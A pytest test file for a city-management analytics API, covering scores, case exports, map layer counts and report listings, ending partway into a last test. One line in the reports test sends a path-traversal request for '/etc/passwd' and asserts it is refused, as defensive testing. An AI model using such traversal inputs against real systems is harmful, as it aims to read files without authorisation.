"""Scores, case exports, the map's layers and the reports through the API (a real app on temporary folders)."""

from __future__ import annotations

import csv
import io
import json
import logging
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from detect.taxonomy import load_taxonomy
from pipelines.analytics.periods import parse_period
from pipelines.analytics.places import load_places
from pipelines.analytics.report import build_report, write_report
from pipelines.cases.states import CaseState
from pipelines.cases.store import CaseQuery
from tests.analytics_helpers import (
    G1, G2, G3, G4, TWICE_G1, TWICE_G1_REFUSED, TZ, CaseMaker, november, write_grid, write_zones,
)
from tests.api_helpers import MODEL, auth, draft_cases, make_app, settings_for

NOV = parse_period("2026-11")


@pytest.fixture(scope="module")
def api(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("analytics-api")
    settings = settings_for(tmp)
    settings.analytics.grid = write_grid(tmp / "grid.geojson")
    settings.analytics.zones = write_zones(tmp / "zones.geojson")
    settings.analytics.reports_dir = tmp / "reports"
    app, tokens = make_app(settings, resume_jobs=False)
    store = app.state.ctx.store
    settings.analytics.cutoffs = november(CaseMaker(store), tmp)
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, auth(tokens["inspector"]), store, settings


def _count(store, **filters) -> int:
    start, end = NOV.bounds(TZ)
    return store.search(CaseQuery(since=start, until=end, limit=1, **filters))[1]


def _on_the_map(store, **filters) -> int:
    """What the map counts without a state chosen: the cases of the period not rejected, as the reports count them."""
    return _count(store, **filters) - _count(store, state=CaseState.REJECTED, **filters)


def test_scores_as_json_and_excel(api):
    client, who, _, _ = api
    answer = client.get("/api/v1/scores", params={"period": "2026-11", "by": "squad"}, headers=who)
    assert answer.status_code == 200, answer.text
    data = answer.json()
    assert {u["unit"]: u["score"] for u in data["units"]} == {"一中队": 42, "二中队": 26}
    market = next(i for s in data["units"][0]["sections"] for i in s["items"] if i["id"] == "road_market")
    assert market["deduction"] == 5 and len(market["cases"]) == 3 and market["groups"][0]["stalls"] == 12
    book = client.get("/api/v1/scores", params={"period": "2026-11", "by": "grid", "format": "xlsx"}, headers=who)
    assert book.status_code == 200 and 'filename="scores-2026-11-grid.xlsx"' in book.headers["content-disposition"]
    rows = list(load_workbook(io.BytesIO(book.content))["得分 Scores"].iter_rows(values_only=True))
    assert {r[0]: r[1] for r in rows[1:]} == {G1: 48, G2: 59, G3: 44, G4: 50}


def test_scores_by_grid_are_answered_a_page_at_a_time(tmp_path):
    """A district's 400 grid cells were one table of about 600 KiB of JSON; the JSON answers a page of units in the
    table's order (200 by default, limit up to 500, offset) with the total, the workbook every unit."""
    from tests.analytics_helpers import local, many_cells

    settings = settings_for(tmp_path)
    cells = many_cells(205)
    settings.analytics.grid = write_grid(tmp_path / "grid.geojson", cells)
    app, tokens = make_app(settings, resume_jobs=False)
    CaseMaker(app.state.ctx.store).add("street_stall", cells[0][0], local(3))
    who, codes = auth(tokens["inspector"]), sorted(c[0] for c in cells)
    with TestClient(app, raise_server_exceptions=False) as client:
        first = client.get("/api/v1/scores", params={"period": "2026-11", "by": "grid"}, headers=who).json()
        assert (first["total"], first["limit"], first["offset"]) == (205, 200, 0)
        assert [u["unit"] for u in first["units"]] == codes[:200] and first["cases_counted"] == 1
        rest = client.get("/api/v1/scores", params={"period": "2026-11", "by": "grid", "offset": 200}, headers=who).json()
        assert [u["unit"] for u in rest["units"]] == codes[200:] and rest["total"] == 205
        small = client.get("/api/v1/scores", params={"period": "2026-11", "limit": 3, "offset": 1}, headers=who).json()
        assert [u["unit"] for u in small["units"]] == codes[1:4]
        assert client.get("/api/v1/scores", params={"period": "2026-11", "limit": 501}, headers=who).status_code == 422
        book = client.get("/api/v1/scores", params={"period": "2026-11", "by": "grid", "format": "xlsx"}, headers=who)
        rows = list(load_workbook(io.BytesIO(book.content))["得分 Scores"].iter_rows(values_only=True))
        assert [r[0] for r in rows[1:]] == codes  # the workbook whole
    app.state.ctx.store.close()


def test_scores_by_camera_name_each_camera_as_the_cameras_files_scenes_do(tmp_path):
    """The service scored by camera under ids (its map files held no camera names: the CLI alone read the cameras
    file). The page and workbook read each camera as its scene names it (`label`), the JSON's `unit` the id."""
    from tests.analytics_helpers import G1, local, write_named_cameras

    settings = settings_for(tmp_path)
    settings.analytics.grid = write_grid(tmp_path / "grid.geojson")
    settings.service.cameras_file = write_named_cameras(tmp_path)
    app, tokens = make_app(settings, resume_jobs=False)
    CaseMaker(app.state.ctx.store).add("illegal_parking", G1, local(3, 9), camera="cam-01", zone="curb")
    with TestClient(app, raise_server_exceptions=False) as client:
        data = client.get("/api/v1/scores", params={"period": "2026-11", "by": "camera"}, headers=auth(tokens["inspector"])).json()
        assert [(u["unit"], u["label"]) for u in data["units"]] == [("cam-01", "文三路北门 (cam-01)")]
    app.state.ctx.store.close()


@pytest.mark.parametrize("params, status, detail", [
    ({"period": "2026-13"}, 422, "month must be in 1..12"),
    ({"period": "last month"}, 422, "does not parse"),
    ({"period": "9999-W52"}, 422, "the year must be 1900–2999"),  # its end and UTC bounds overflow Python's dates (was 500)
    ({"period": "0001"}, 422, "the year must be 1900–2999"),
    ({"period": "2026-11", "by": "district"}, 422, "by"),
    ({}, 422, "period"),
])
def test_bad_score_requests(api, params, status, detail):
    client, who, _, _ = api
    answer = client.get("/api/v1/scores", params=params, headers=who)
    assert answer.status_code == status and detail in answer.json()["detail"], answer.text
    assert [e["loc"] for e in answer.json()["errors"]] == [["query", "by" if "by" in params else "period"]], answer.text
    assert answer.headers["content-type"] == "application/problem+json"


def test_a_broken_sheet_is_a_server_side_problem(api, tmp_path):
    client, who, _, settings = api
    bad = tmp_path / "sheet.yaml"
    bad.write_text("name: x\nsections: []\n", encoding="utf-8")
    settings.analytics.sheet = bad
    try:
        answer = client.get("/api/v1/scores", params={"period": "2026-11"}, headers=who)
    finally:
        settings.analytics.sheet = None
    assert answer.status_code == 503 and "analytics.sheet: sections: List should have at least 1 item" in answer.json()["detail"]


def test_scores_by_a_squad_no_cell_names_is_a_server_side_problem(api, tmp_path):
    """Every case fell under (未标注 none) when the grid file names no squad (a GIS export's 中队): now said, with the file."""
    client, who, _, settings = api
    grid = tmp_path / "grid.geojson"
    features = [{**f, "properties": {"id": f["properties"]["id"], "中队": f["properties"]["squad"]}}
                for f in json.loads(settings.analytics.grid.read_text(encoding="utf-8"))["features"]]
    grid.write_text(json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False), encoding="utf-8")
    before, settings.analytics.grid = settings.analytics.grid, grid
    try:
        answer = client.get("/api/v1/scores", params={"period": "2026-11", "by": "squad"}, headers=who)
        by_grid = client.get("/api/v1/scores", params={"period": "2026-11", "by": "grid"}, headers=who)
    finally:
        settings.analytics.grid = before
    assert answer.status_code == 503 and answer.json()["detail"].startswith("analytics: analytics.grid：网格中没有单元格标明中队（属性 `squad`），无法按中队评分 — ")
    assert "analytics.grid: no cell names its squad (property `squad`; the cells have: id, 中队)" in answer.json()["detail"]
    assert by_grid.status_code == 200 and {u["unit"] for u in by_grid.json()["units"]} == {G1, G2, G3, G4}


def test_scores_carry_the_cutoff_files_warnings_naming_it_by_its_setting(api, tmp_path):
    """A row of the cut-off file that repeats the header was skipped without a word; the scores' answer says so, the
    file named by its setting (analytics.cutoffs), not by the server's path."""
    client, who, _, settings = api
    assert client.get("/api/v1/scores", params={"period": "2026-11"}, headers=who).json()["warnings"] == []
    pasted = tmp_path / "cutoffs.csv"
    pasted.write_text(settings.analytics.cutoffs.read_text(encoding="utf-8") + "号码,停机时间\n", encoding="utf-8")
    before, settings.analytics.cutoffs = settings.analytics.cutoffs, pasted
    try:
        answer = client.get("/api/v1/scores", params={"period": "2026-11", "by": "squad"}, headers=who)
    finally:
        settings.analytics.cutoffs = before
    assert answer.status_code == 200, answer.text
    assert answer.json()["warnings"] == ["analytics.cutoffs 第 11 行与表头相同，已跳过 — analytics.cutoffs: row 11 repeats the header, skipped"]
    assert {u["unit"]: u["score"] for u in answer.json()["units"]} == {"一中队": 42, "二中队": 26}  # the rows above it count


def test_scores_by_street_without_a_grid_say_why_in_chinese_first(api, caplog):
    """Soak: the scores page offers 街道 street and 中队 squad whatever the settings; without `analytics.grid` (the
    default) it showed '503: analytics: analytics.grid is not set: …', English alone, to city staff, and each click
    logged the same ERROR line: the first few are logged, then one line per interval, each click answered alike."""
    client, who, _, settings = api
    before, settings.analytics.grid = settings.analytics.grid, None
    try:
        with caplog.at_level(logging.ERROR, logger="api.problems"):
            answers = [client.get("/api/v1/scores", params={"period": "2026-11", "by": "street"}, headers=who)
                       for _ in range(8)]
    finally:
        settings.analytics.grid = before
    for answer in answers:
        assert answer.status_code == 503
        assert answer.json()["detail"] == ("analytics: 未设置网格文件 analytics.grid，无法按街道评分 — analytics.grid is not set: a "
                                           "case's street is its grid cell's `street` property in that file")
    logged = [r.getMessage() for r in caplog.records if "analytics.grid is not set" in r.getMessage()]
    assert len(logged) == 3, logged  # RecurringLog's first, within its interval


@pytest.mark.parametrize("setting, name, text, path, params, detail", [
    ("cityops.grid", "grid.geojson", "{", "/api/v1/callout", {}, "cityops.grid unusable: cityops.grid: not valid JSON"),
    ("cityops.grid", "grid.geojson", TWICE_G1, "/api/v1/callout", {}, f"cityops.grid unusable: cityops.grid: {TWICE_G1_REFUSED}"),
    ("analytics.grid", "grid.geojson", TWICE_G1, "/api/v1/scores", {"period": "2026-11", "by": "squad"},
     f"analytics map files: analytics.grid: {TWICE_G1_REFUSED}"),
    ("analytics.sheet", "sheet.yaml", "sections: [", "/api/v1/scores", {"period": "2026-11"}, "analytics: analytics.sheet: not valid YAML"),
    ("analytics.zones", "zones.geojson", "{", "/api/v1/scores", {"period": "2026-11"}, "analytics map files: analytics.zones: not valid JSON"),
    ("analytics.cutoffs", "cutoffs.csv", "号码,停机时间\n12,yesterday\n", "/api/v1/scores", {"period": "2026-11"},
     "analytics: analytics.cutoffs"),
])
def test_a_config_file_that_cannot_be_read_is_named_by_its_setting_not_its_server_path(api, tmp_path, setting, name, text,
                                                                                      path, params, detail):
    """The call-out list's and the analytics' 503s quoted the loader's error as it was written, with the server's path
    of the file (/srv/.../grid.geojson: not valid JSON), to whoever called; each names the file by its setting."""
    client, who, _, settings = api
    section, field = setting.split(".")
    bad = tmp_path / name
    if isinstance(text, list):  # a grid's cells
        write_grid(bad, text)
    else:
        bad.write_text(text, encoding="utf-8")
    before = getattr(getattr(settings, section), field)
    setattr(getattr(settings, section), field, bad)
    try:
        answer = client.get(path, params=params, headers=who)
    finally:
        setattr(getattr(settings, section), field, before)
    assert answer.status_code == 503 and answer.json()["detail"].startswith(detail), answer.text
    assert str(tmp_path) not in answer.json()["detail"]


def test_case_export_csv_and_excel_with_filters(api):
    client, who, store, _ = api
    answer = client.get("/api/v1/exports/cases", params={"period": "2026-11", "type": "street_stall", "street": "文新街道"}, headers=who)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == 4 and {r["网格 grid"] for r in rows} == {G1}
    both = client.get("/api/v1/exports/cases", params=[("format", "xlsx"), ("grid", G3), ("grid", G4), ("state", "candidate")], headers=who)
    sheet = list(load_workbook(io.BytesIO(both.content)).active.iter_rows(values_only=True))
    assert len(sheet) - 1 == store.search(CaseQuery(grid_cell=G3, limit=1))[1] + store.search(CaseQuery(grid_cell=G4, limit=1))[1] == 26
    for params, detail in (({"type": "ufo"}, "type 'ufo': unknown violation type"), ({"state": "lost"}, "state 'lost'"),
                           ({"severity": "awful"}, "severity 'awful'"),
                           ({"period": "2026-Q9"}, "does not parse"), ({"source": "drone"}, "source"),
                           ({"street": "文新"}, "street '文新': no cell of the grid file"),
                           ({"period": "9999-12-31"}, "the year must be"),
                           ({"since": "2026-11"}, "since '2026-11': not a day YYYY-MM-DD"),
                           ({"since": "2026-02-30"}, "since '2026-02-30': not a day")):
        bad = client.get("/api/v1/exports/cases", params=params, headers=who)
        assert bad.status_code == 422 and detail in bad.json()["detail"], bad.text
        assert [e["loc"] for e in bad.json()["errors"]] == [["query", *params]], bad.text  # the field, as FastAPI names one
    # since: the cases opened from that local day on (the map's default days, which no period names), within a period
    late = client.get("/api/v1/exports/cases", params={"since": "2026-11-09", "type": "street_stall", "grid": G3}, headers=who)
    assert 'filename="cases-since-2026-11-09.csv"' in late.headers["content-disposition"]
    opened = [r["发现时间 opened (local)"] for r in csv.DictReader(io.StringIO(late.content.decode("utf-8-sig")))]
    assert len(opened) == 7 and min(opened) == "2026-11-09 08:00:00"  # G3's stalls of the 9th to the 15th
    within = client.get("/api/v1/exports/cases", params={"since": "2026-11-09", "period": "2026-10", "grid": G2}, headers=who)
    assert within.status_code == 200 and len(within.content.decode("utf-8-sig").splitlines()) == 1  # October's ended before


def test_map_layers_count_the_cases_of_each_cell_and_zone(api):
    client, who, store, _ = api
    data = client.get("/api/v1/map", params={"period": "2026-11"}, headers=who).json()
    cells = {f["properties"]["id"]: f["properties"] for f in data["layers"]["grid"]["features"]}
    for cell in (G1, G2, G3, G4):
        assert cells[cell]["count"] == _on_the_map(store, grid_cell=cell), cell
    assert cells[G1]["street"] == "文新街道" and cells[G1]["squad"] == "一中队"
    [zone] = data["layers"]["zones"]["features"]
    assert zone["properties"]["count"] == _on_the_map(store, grid_cell=G1) + _on_the_map(store, grid_cell=G2)  # it covers both cells
    assert data["total"] == _on_the_map(store) and data["unplaced"] == 0 and data["tile_url"] is None
    stalls = client.get("/api/v1/map", params={"period": "2026-11", "type": "street_stall"}, headers=who).json()
    assert {f["properties"]["id"]: f["properties"]["count"] for f in stalls["layers"]["grid"]["features"]}[G3] == 15

    listed = client.get("/api/v1/map/cases", params={"layer": "grid", "id": G1, "period": "2026-11"}, headers=who).json()
    assert listed["total"] == cells[G1]["count"] == len(listed["items"])
    assert {c["id"] for c in listed["items"]} == {c.id for c in store.search(CaseQuery(grid_cell=G1, limit=500))[0]
                                                  if c.opened_at >= NOV.bounds(TZ)[0]}
    in_zone = client.get("/api/v1/map/cases", params={"layer": "zones", "id": "wensan-no-vending", "period": "2026-11"}, headers=who)
    assert in_zone.json()["total"] == zone["properties"]["count"]
    assert client.get("/api/v1/map/cases", params={"layer": "zones", "id": "nowhere"}, headers=who).status_code == 404
    # an unknown cell answered 200 with no cases, read as a quiet cell
    unknown = client.get("/api/v1/map/cases", params={"layer": "grid", "id": "330106999999"}, headers=who)
    assert unknown.status_code == 404 and "no grid cell '330106999999' on the map" in unknown.text, unknown.text


def test_the_map_counts_what_the_report_counts_and_shows_false_alarms_when_asked(api, tmp_path):
    """The map without a state chosen counted every case of the period, a reviewer's rejections, triage's withdrawals
    and the platform's voidings (已作废) too, so a cell was coloured for false alarms and the map's total was more than
    the report's and the scores' for the same month: it counts the cases not rejected, as they do, and shows the
    rejected ones when that state is chosen."""
    client, who, store, settings = api
    rejected = _count(store, state=CaseState.REJECTED)
    assert rejected and _count(store, grid_cell=G2, state=CaseState.REJECTED)  # november(): a rejected spot in G2
    data = client.get("/api/v1/map", params={"period": "2026-11"}, headers=who).json()
    report = build_report(store.engine, load_places(settings.analytics), load_taxonomy(), NOV, TZ)
    assert data["total"] == report.summary["cases"] == _count(store) - rejected
    cells = {f["properties"]["id"]: f["properties"]["count"] for f in data["layers"]["grid"]["features"]}
    assert cells == {row[0]: row[4] for row in report.tables["by_grid"].rows}
    listed = client.get("/api/v1/map/cases", params={"layer": "grid", "id": G2, "period": "2026-11"}, headers=who).json()
    assert listed["total"] == cells[G2] and "rejected" not in {c["state"] for c in listed["items"]}
    false_alarms = client.get("/api/v1/map", params={"period": "2026-11", "state": "rejected"}, headers=who).json()
    assert false_alarms["total"] == rejected


def test_the_map_without_a_period_counts_the_last_days_and_at_most_its_cap(tmp_path):
    """Without a period the map read every case the store ever held, so a city with years of cases stalled the
    service on each look: it counts the last analytics.map_days days (today included, `since` their first day),
    its case lists likewise, and at most analytics.map_max_cases cases, the newest, saying so (`truncated`)."""
    from datetime import datetime, timedelta

    settings = settings_for(tmp_path)
    settings.analytics.grid = write_grid(tmp_path / "grid.geojson")
    settings.analytics.zones = write_zones(tmp_path / "zones.geojson")  # over G1 and G2, where the cases are
    app, tokens = make_app(settings, resume_jobs=False)
    store, now = app.state.ctx.store, datetime.now(TZ)
    make = CaseMaker(store)
    old = make.add("street_stall", G1, now - timedelta(days=40))
    recent = [make.add("street_stall", G1, now - timedelta(days=d)) for d in (4, 3, 2)] + [make.add("street_stall", G2, now - timedelta(days=1))]
    who = auth(tokens["inspector"])

    def counts(data) -> dict[str, int]:
        return {f["properties"]["id"]: f["properties"]["count"] for f in data["layers"]["grid"]["features"] if f["properties"]["count"]}

    with TestClient(app, raise_server_exceptions=False) as client:
        data = client.get("/api/v1/map", headers=who).json()
        assert (data["total"], counts(data), data["truncated"]) == (4, {G1: 3, G2: 1}, False)
        assert data["since"] == (now.date() - timedelta(days=29)).isoformat()
        listed = client.get("/api/v1/map/cases", params={"layer": "grid", "id": G1}, headers=who).json()
        assert {c["id"] for c in listed["items"]} == set(recent[:3]) and old not in str(listed)
        month = client.get("/api/v1/map", params={"period": f"{now:%Y-%m}"}, headers=who).json()
        assert month["since"] is None and not month["truncated"]  # a period given is counted as given

        settings.analytics.map_days = 60
        assert client.get("/api/v1/map", headers=who).json()["total"] == 5
        settings.analytics.map_max_cases = 2
        cut = client.get("/api/v1/map", headers=who).json()
        assert (cut["total"], counts(cut), cut["truncated"]) == (2, {G1: 1, G2: 1}, True)  # the newest two: 1 and 2 days old
        # A cell's or zone's list read every case of its period (a long one loaded them all): the same cap, newest first.
        # A cell's looked among its own newest 2 (its total 2 where the map counted 1), a zone's among the map's: both
        # are of the map's newest 2, their totals their counts on the map and `truncated` the map's.
        a_year = {"period": f"{now:%Y}"} if now.month > 2 else {}  # one the five cases are all in (else the 60 days)
        cell = client.get("/api/v1/map/cases", params={"layer": "grid", "id": G1, **a_year}, headers=who).json()
        assert ([c["id"] for c in cell["items"]], cell["total"], cell["truncated"], cell["max_cases"]) == ([recent[2]], 1, True, 2)
        zone = client.get("/api/v1/map/cases", params={"layer": "zones", "id": "wensan-no-vending", **a_year}, headers=who).json()
        assert ([c["id"] for c in zone["items"]], zone["total"], zone["truncated"], zone["max_cases"]) == ([recent[3], recent[2]], 2, True, 2)
        quiet = client.get("/api/v1/map/cases", params={"layer": "grid", "id": G3, **a_year}, headers=who).json()
        assert (quiet["total"], quiet["truncated"]) == (0, True)  # a cell of none: the map's cut all the same
        settings.analytics.map_max_cases = 4  # the map's newest 4: G1's 3 and G2's 1, the 40-day-old case cut
        cut = client.get("/api/v1/map", params=a_year, headers=who).json()
        cell = client.get("/api/v1/map/cases", params={"layer": "grid", "id": G1, **a_year}, headers=who).json()
        zone = client.get("/api/v1/map/cases", params={"layer": "zones", "id": "wensan-no-vending", **a_year}, headers=who).json()
        [counted] = cut["layers"]["zones"]["features"]
        assert (cell["total"], zone["total"]) == (counts(cut)[G1], counted["properties"]["count"]) == (3, 4)
        assert cell["truncated"] is zone["truncated"] is cut["truncated"] is True
        settings.analytics.map_max_cases = 20000
        assert client.get("/api/v1/map/cases", params={"layer": "grid", "id": G1}, headers=who).json()["truncated"] is False
    store.close()


def test_the_map_counts_each_of_several_zones_as_its_case_list_does(tmp_path):
    """Overlapping zones, a multi-polygon, one whose edge runs through cases' points (counted: inside or on the edge)
    and one with none; a case without a position is in no zone. Each zone's count on the map is its list's total,
    though the map reads only where the cases are."""
    from datetime import datetime, timedelta

    from tests.analytics_helpers import LAT0, LON0

    def box(x0, x1, y0=LAT0, y1=LAT0 + 0.004):
        return [[[x0, y0], [x1, y0], [x1, y1], [x0, y1], [x0, y0]]]

    g3_point = LON0 + 0.004 * 2 + 0.002  # where CaseMaker puts G3's cases (the same float, through the JSON)
    zones = {"g1-only": {"type": "Polygon", "coordinates": box(LON0, LON0 + 0.004)},
             "g1-g2": {"type": "Polygon", "coordinates": box(LON0 + 0.001, LON0 + 0.007, LAT0 + 0.0005, LAT0 + 0.0015)},
             "edge-at-g3": {"type": "Polygon", "coordinates": box(g3_point, g3_point + 0.001)},
             "g1-and-g4": {"type": "MultiPolygon", "coordinates": [box(LON0 + 0.001, LON0 + 0.003), box(LON0 + 0.013, LON0 + 0.015)]},
             "elsewhere": {"type": "Polygon", "coordinates": box(LON0 + 0.1, LON0 + 0.11)}}
    path = tmp_path / "zones.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": geometry, "properties": {"id": zid, "name": zid, "kind": "no_vending"}}
        for zid, geometry in zones.items()]}), encoding="utf-8")
    settings = settings_for(tmp_path)
    settings.analytics.grid = write_grid(tmp_path / "grid.geojson")
    settings.analytics.zones = path
    app, tokens = make_app(settings, resume_jobs=False)
    make, now = CaseMaker(app.state.ctx.store), datetime.now(TZ)
    for cell, n in ((G1, 2), (G2, 1), (G3, 3), (G4, 1), (None, 1)):
        for k in range(n):
            make.add("street_stall", cell, now - timedelta(hours=k + 1))
    who = auth(tokens["inspector"])
    with TestClient(app, raise_server_exceptions=False) as client:
        data = client.get("/api/v1/map", headers=who).json()
        counts = {f["properties"]["id"]: f["properties"]["count"] for f in data["layers"]["zones"]["features"]}
        assert counts == {"g1-only": 2, "g1-g2": 3, "edge-at-g3": 3, "g1-and-g4": 3, "elsewhere": 0}
        assert (data["total"], data["unplaced"]) == (8, 1)
        for zid, n in counts.items():
            listed = client.get("/api/v1/map/cases", params={"layer": "zones", "id": zid}, headers=who).json()
            assert listed["total"] == len(listed["items"]) == n, zid
    # The map counts where the cases are (load_points), its lists the cases themselves: the same cases, in one order.
    from pipelines.analytics.casedata import load_cases, load_points

    store, places = app.state.ctx.store, load_places(settings.analytics)
    for newest in (None, 5):  # 5: the newest cut among cases opened at the same moments
        assert load_points(store.engine, places, newest=newest) == [
            (c.grid_cell, c.lat, c.lon) for c in load_cases(store.engine, places, newest=newest)]
    store.close()


def test_a_zones_list_reads_the_cases_in_its_bounds_alone(tmp_path, monkeypatch):
    """A zone's list read the map's every case whole (about 1 s at 20,000) to keep those in the polygon; it reads those
    in the zone's bounds, then tests them against the polygon: the same list, total and cut as reading them all (the
    reference below), for cases inside, on the edge, in the bounds outside a triangle, outside, and without a position,
    at the cap and past it, two opened at one moment."""
    import shapely
    import sqlalchemy as sa

    from pipelines.analytics import casedata
    from pipelines.analytics.casedata import CaseFilter, load_cases
    from pipelines.cases.schema import cases
    from tests.analytics_helpers import LAT0, LON0, local

    triangle = [[LON0, LAT0], [LON0 + 0.01, LAT0], [LON0, LAT0 + 0.01], [LON0, LAT0]]
    path = tmp_path / "zones.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {
        "type": "Polygon", "coordinates": [triangle]}, "properties": {"id": "corner", "name": "角", "kind": "no_vending"}}]}))
    settings = settings_for(tmp_path)
    settings.analytics.grid = write_grid(tmp_path / "grid.geojson")
    settings.analytics.zones = path
    app, tokens = make_app(settings, resume_jobs=False)
    store, make = app.state.ctx.store, CaseMaker(app.state.ctx.store)
    places = [(0.002, 0.002), (0.0, 0.003), (0.01, 0.0), (0.005, 0.005), (0.008, 0.008), (0.02, 0.002), (0.003, -0.001),
              None, (0.001, 0.001), (0.0, 0.0)]  # inside, on its west edge, a corner, the hypotenuse, the bounds' far corner ...
    made_ids = [make.add("street_stall", G1, local(1 + k if k != 9 else 9)) for k in range(len(places))]  # 2 at one moment
    with store.engine.begin() as conn:
        for case_id, place in zip(made_ids, places):
            lon, lat = (None, None) if place is None else (LON0 + place[0], LAT0 + place[1])
            conn.execute(sa.update(cases).where(cases.c.id == case_id).values(lon=lon, lat=lat))
    in_bounds = sum(p is not None and 0 <= p[0] <= 0.01 and 0 <= p[1] <= 0.01 for p in places)
    made = []
    made_from = casedata._fact
    monkeypatch.setattr(casedata, "_fact", lambda row, places: made.append(row) or made_from(row, places))
    who, zone = auth(tokens["inspector"]), shapely.Polygon(triangle)
    with TestClient(app, raise_server_exceptions=False) as client:
        for cap in (20000, len(places), 6, 1):
            settings.analytics.map_max_cases = cap
            start, end = NOV.bounds(TZ)
            read = load_cases(store.engine, load_places(settings.analytics), CaseFilter(start=start, end=end), newest=cap + 1)
            window = read[1:] if len(read) > cap else read
            inside = [c for c in window if c.lat is not None and zone.intersects(shapely.Point(c.lon, c.lat))]
            inside.sort(key=lambda c: c.at, reverse=True)
            made.clear()
            listed = client.get("/api/v1/map/cases", params={"layer": "zones", "id": "corner", "period": "2026-11"}, headers=who).json()
            assert ([c["id"] for c in listed["items"]], listed["total"], listed["truncated"]) == (
                [c.id for c in inside], len(inside), len(read) > cap), cap
            assert len(made) <= in_bounds < len(places), cap  # no case outside the bounds is read whole
        assert [c["id"] for c in listed["items"]] and listed["truncated"]
    store.close()


@pytest.mark.slow  # 7 s: whole reports
def test_latest_reports_are_listed_and_served(api):
    client, who, store, settings = api
    assert client.get("/api/v1/reports", headers=who).json() == {"items": [], "total": 0, "limit": 200, "offset": 0}
    report = build_report(store.engine, load_places(settings.analytics), load_taxonomy(), NOV, TZ)
    write_report(report, settings.analytics.reports_dir / "month-2026-11")
    [listed] = client.get("/api/v1/reports", headers=who).json()["items"]
    assert listed["name"] == "month-2026-11" and listed["title"] == "月通报 2026-11"
    assert listed["summary"]["cases"] == report.summary["cases"] and set(listed["files"]) == {"report.html", "report.pdf", "report.xlsx", "report.json"}
    pdf = client.get("/api/v1/reports/month-2026-11/report.pdf", headers=who)
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF") and pdf.headers["content-type"] == "application/pdf"
    html = client.get("/api/v1/reports/month-2026-11/report.html", headers=who)  # cases and places: no framing, no cache
    assert html.status_code == 200 and html.headers["x-frame-options"] == "DENY" and html.headers["cache-control"] == "no-store"
    assert "frame-ancestors 'none'" in html.headers["content-security-policy"]
    for path in ("/api/v1/reports/month-2026-11/cases.db", "/api/v1/reports/nope/report.pdf", "/api/v1/reports/..%2F..%2Fetc/passwd"):
        assert client.get(path, headers=who).status_code == 404, path


def test_a_report_json_that_cannot_be_read_is_logged_once_and_a_rewritten_one_listed_anew(tmp_path, caplog):
    """GET /reports read every folder's whole report.json (tables included) at each listing and passed over one it
    could not read without a word; each description is read once per change of its file, and one that cannot be read
    is logged once per change, naming the report, the others listed all the same."""
    import logging

    settings = settings_for(tmp_path)
    settings.analytics.reports_dir = tmp_path / "reports"
    app, tokens = make_app(settings, resume_jobs=False)

    def report(name: str, text: str) -> None:
        (settings.analytics.reports_dir / name).mkdir(parents=True, exist_ok=True)
        (settings.analytics.reports_dir / name / "report.json").write_text(text, encoding="utf-8")

    def described(title: str, generated_at: str) -> str:
        return json.dumps({"title": title, "kind": "month", "label": "2026-11", "generated_at": generated_at,
                           "summary": {"cases": 3}, "tables": {"by_type": {"title": "t", "columns": ["a"], "rows": [[1]]}}},
                          ensure_ascii=False)

    report("month-2026-11", described("月通报 2026-11", "2026-12-01T08:00:00+08:00"))
    report("month-2026-10", '{"title": "月通报 2026-10", ')  # cut short
    with TestClient(app, raise_server_exceptions=False) as client, \
            caplog.at_level(logging.WARNING, logger="api.routers.analytics"):
        def listed() -> list[tuple[str, str]]:
            answer = client.get("/api/v1/reports", headers=auth(tokens["inspector"]))
            assert answer.status_code == 200, answer.text
            assert str(tmp_path) not in answer.text and all("tables" not in r for r in answer.json()["items"])
            return [(r["name"], r["title"]) for r in answer.json()["items"]]

        assert listed() == listed() == [("month-2026-11", "月通报 2026-11")]
        unreadable = [r.getMessage() for r in caplog.records if "month-2026-10" in r.getMessage()]
        assert len(unreadable) == 1, unreadable  # once, not at each listing
        assert unreadable[0].startswith("GET /reports: report month-2026-10 is not listed: its report.json cannot be read: ")
        report("month-2026-11", described("月通报 2026-11（修订）", "2026-12-01T08:00:00+08:00"))
        report("month-2026-10", described("月通报 2026-10", "2026-11-01T08:00:00+08:00"))
        assert listed() == [("month-2026-11", "月通报 2026-11（修订）"), ("month-2026-10", "月通报 2026-10")]


def test_reports_are_listed_a_page_at_a_time_with_how_many_there_are(tmp_path):
    """GET /reports answered the newest 50 alone, with no offset and no total, so a few years of daily reports showed
    as 50 on /ui/reports, the rest out of reach and nothing saying so. It answers a page, newest first, and the total."""
    settings = settings_for(tmp_path)
    settings.analytics.reports_dir = tmp_path / "reports"
    for day in range(1, 31):  # day-2026-11-DD, generated in the order of their days
        folder = settings.analytics.reports_dir / f"day-2026-11-{day:02d}"
        folder.mkdir(parents=True)
        (folder / "report.json").write_text(json.dumps({"title": f"日研判 2026-11-{day:02d}", "kind": "day", "label": f"2026-11-{day:02d}",
                                                        "generated_at": f"2026-11-{day:02d}T08:00:00+08:00", "summary": {}}), encoding="utf-8")
    app, tokens = make_app(settings, resume_jobs=False)
    who = auth(tokens["inspector"])
    with TestClient(app) as client:
        first = client.get("/api/v1/reports", params={"limit": 20}, headers=who).json()
        assert (len(first["items"]), first["total"], first["limit"], first["offset"]) == (20, 30, 20, 0)
        assert first["items"][0]["name"] == "day-2026-11-30"  # newest first
        rest = client.get("/api/v1/reports", params={"limit": 20, "offset": 20}, headers=who).json()
        assert [r["name"] for r in rest["items"]] == [f"day-2026-11-{d:02d}" for d in range(10, 0, -1)]
        assert client.get("/api/v1/reports", headers=who).json()["total"] == 30
        assert client.get("/api/v1/reports", params={"limit": 501}, headers=who).status_code == 422


def test_a_reviewer_tags_a_stall_food_on_site_and_the_score_counts_it_as_such(tmp_path):
    """The example sheet deducts 2 for a stall that cooks food on the spot (tag food_on_site) instead of 1: a reviewer
    sets the tag on the case (PATCH, as the queue page does) and the score follows; the sheet's tags are in /meta."""
    from datetime import datetime

